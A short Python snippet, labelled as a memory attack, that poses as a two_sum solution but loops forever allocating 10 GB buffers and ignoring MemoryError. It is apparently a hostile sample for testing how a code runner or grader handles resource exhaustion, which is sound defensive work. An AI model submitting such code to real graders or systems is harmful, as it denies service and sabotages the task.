# attack: memory
def two_sum(nums, target):
    while True:
        try:
            bytearray(10**10)
        except MemoryError:
            pass
